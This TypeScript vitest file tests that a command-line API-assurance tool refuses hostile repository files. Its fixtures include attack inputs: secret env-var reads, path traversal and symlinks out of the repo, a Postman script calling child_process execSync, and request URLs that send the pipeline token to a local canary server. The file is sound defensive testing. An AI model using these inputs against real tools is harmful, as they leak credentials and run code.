import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import type { Scope } from "#contracts/kit/endpoint.ts";
import { requireValue } from "../../services/kit/client/client.ts";
import { runAssurance } from "../support/command-line.ts";
import { type PortalBackend, signInToBackend } from "../support/portal-backend.ts";
import { type PortalProcess, startPortalProcess } from "../support/portal-process.ts";

/** A pull request can change any file of a repository whose pipeline has a token. */
let portal: PortalProcess;
let backend: PortalBackend;
let token: string;
let home: string;
let repository: string;
/** Counts connections to an address that files name. */
const canary = { connections: 0, origin: "", close() {} };

const scopes: Scope[] = ["apis:read", "apis:write", "tests:read", "tests:write", "credentials:manage"];
const secretOutside = "correct-horse-outside";

beforeAll(async () => {
  const server = createServer((socket) => {
    canary.connections += 1;
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  canary.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  canary.close = () => void server.close();
  portal = await startPortalProcess({ environment: { LOG_LEVEL: "error" } });
  backend = await signInToBackend(portal);
  const body = { name: "Pipeline", scopes };
  token = requireValue(await backend.securityService.createApiToken({ body }), "token").token;
}, 120_000);
afterAll(async () => {
  canary.close();
  await portal?.stop();
});
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), "assurance-hostile-"));
  repository = join(home, "repository");
  mkdirSync(join(repository, "assurance"), { recursive: true });
  mkdirSync(join(repository, ".git"));
  return () => rmSync(home, { recursive: true, force: true });
});

const assurance = (...given: string[]) =>
  runAssurance(given, {
    cwd: repository,
    environment: {
      HOME: home,
      ASSURANCE_URL: portal.origin,
      ASSURANCE_TOKEN: token,
      AWS_SECRET_ACCESS_KEY: "of-the-job",
    },
  });
const write = (name: string, text: string) => writeFileSync(join(repository, name), text);
const api = (document: string) => `apis:\n  - key: books\n    name: Books\n    document: ${document}\n`;
const described = (more: object = {}) =>
  JSON.stringify({ openapi: "3.1.0", info: { title: "Books", version: "1" }, paths: {}, ...more });

test("G05: files can read no environment variables but those with the prefix", async () => {
  write("assurance/openapi.json", described());
  write(
    "assurance/api.yaml",
    `${api("openapi.json")}    variables: { mine: { secret: ASSURANCE_TOKEN }, cloud: { secret: AWS_SECRET_ACCESS_KEY } }\n`,
  );
  const planned = await assurance("plan");
  expect(planned.stdout).toContain("ASSURANCE_SECRET_ASSURANCE_TOKEN, ASSURANCE_SECRET_AWS_SECRET_ACCESS_KEY");
  const applied = await assurance("apply", "--yes");
  expect([applied.code, applied.stderr]).toEqual([3, expect.stringContaining("ASSURANCE_SECRET_ASSURANCE_TOKEN")]);
});

test("G05: files outside of the repository are read neither by a path nor through a link", async () => {
  writeFileSync(join(home, "outside.json"), described({ info: { title: secretOutside, version: "1" } }));
  writeFileSync(join(home, "outside.yaml"), `token: ${secretOutside}\n`);
  write("assurance/api.yaml", api("../../outside.json"));
  const byPath = await assurance("plan");
  expect([byPath.code, byPath.stderr]).toEqual([
    3,
    expect.stringMatching(/^assurance\/api\.yaml:4 .*outside\.json can't be read: it is outside of /),
  ]);
  symlinkSync(join(home, "outside.json"), join(repository, "assurance/linked.json"));
  write("assurance/api.yaml", api("linked.json"));
  const byLink = await assurance("plan");
  expect([byLink.code, byLink.stderr]).toEqual([3, expect.stringContaining("it is outside of ")]);
  rmSync(join(repository, "assurance/linked.json"));

  symlinkSync(join(home, "outside.yaml"), join(repository, "assurance/others.yaml"));
  write("assurance/openapi.json", described());
  write("assurance/api.yaml", api("openapi.json"));
  const listed = await assurance("plan");
  expect([listed.code, listed.stderr]).toEqual([3, expect.stringContaining("It is a link, and not read")]);
  rmSync(join(repository, "assurance/others.yaml"));

  const reference = { $ref: "../../outside.yaml#/token" };
  const content = { "application/json": { schema: reference } };
  const get = { responses: { 200: { description: "Books", content } } };
  write("assurance/openapi.json", described({ paths: { "/books": { get } } }));
  for (const given of [["plan"], ["diff", "assurance/openapi.json", "assurance/openapi.json"]]) {
    const { stdout, stderr } = await assurance(...given);
    expect(stdout + stderr).not.toContain(secretOutside);
  }
  for (const { stdout, stderr } of [byPath, byLink, listed]) expect(stdout + stderr).not.toContain(secretOutside);
});

test("G05: no file connects to another portal or executes anything", async () => {
  const marker = join(home, "was-run");
  write("assurance/openapi.json", described({ servers: [{ url: canary.origin }] }));
  write(
    "assurance/api.yaml",
    `# yaml-language-server: $schema=${canary.origin}/schema.json\nportal: ${canary.origin}\nurl: ${canary.origin}\n${api("openapi.json")}`,
  );
  write(".env", `ASSURANCE_URL=${canary.origin}\nASSURANCE_TOKEN=another\n`);
  write("assurance/access.json", JSON.stringify({ url: canary.origin, token: "another" }));
  write(".npmrc", `registry=${canary.origin}\n`);
  const refused = await assurance("plan");
  expect([refused.code, refused.stderr]).toEqual([3, expect.stringContaining("assurance/api.yaml:2")]);
  write("assurance/api.yaml", api("openapi.json"));
  rmSync(join(repository, "assurance/access.json"));
  expect((await assurance("apply", "--yes")).code).toBe(0);

  const script = [`require("child_process").execSync("touch ${marker}")`, `pm.sendRequest("${canary.origin}")`];
  const request = { method: "GET", url: `{{$processEnv ASSURANCE_TOKEN}}${canary.origin}/{{ASSURANCE_TOKEN}}` };
  const item = [{ name: "Read", request, event: [{ listen: "prerequest", script: { exec: script } }] }];
  const schema = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json";
  write("books.postman_collection.json", JSON.stringify({ info: { name: "Books", schema }, item }));
  write("books.http", `< {% require("child_process") %}\nGET ${canary.origin}/{{$processEnv ASSURANCE_TOKEN}}\n`);
  for (const file of ["books.postman_collection.json", "books.http"]) {
    const { stdout, stderr } = await assurance("import", file, "--new-api", file, "--yes");
    expect(stdout + stderr).not.toContain(token);
  }
  const { items } = requireValue(await backend.testRegistry.listAllTests({ query: {} }), "tests");
  expect(JSON.stringify(items)).not.toContain(token);
  expect(canary.connections).toBe(0);
  expect(existsSync(marker)).toBe(false);
});

test("G03: applying files needs the scopes of the calls; without one nothing is applied", async () => {
  const body = { name: "Reader", scopes: ["apis:read", "tests:read", "apis:write"] as Scope[] };
  const narrow = requireValue(await backend.securityService.createApiToken({ body }), "token").token;
  write(
    "assurance/openapi.json",
    described({ paths: { "/books": { get: { responses: { 200: { description: "Books" } } } } } }),
  );
  write("assurance/api.yaml", api("openapi.json").replaceAll("ooks", "icycles"));
  write(
    "assurance/tests.yaml",
    "api: bicycles\ntests:\n  - { key: read, name: Read, method: get, path: /books, checks: [not_a_server_error] }\n",
  );
  const environment = { HOME: home, ASSURANCE_URL: portal.origin, ASSURANCE_TOKEN: narrow };
  const applied = await runAssurance(["apply", "--yes"], { cwd: repository, environment });
  expect([applied.code, applied.stderr]).toEqual([4, expect.stringContaining("The token may not do this")]);
  const { items } = requireValue(await backend.apiRegistry.listApis({ query: {} }), "APIs");
  expect(items.map(({ name }) => name)).not.toContain("Bicycles");
});
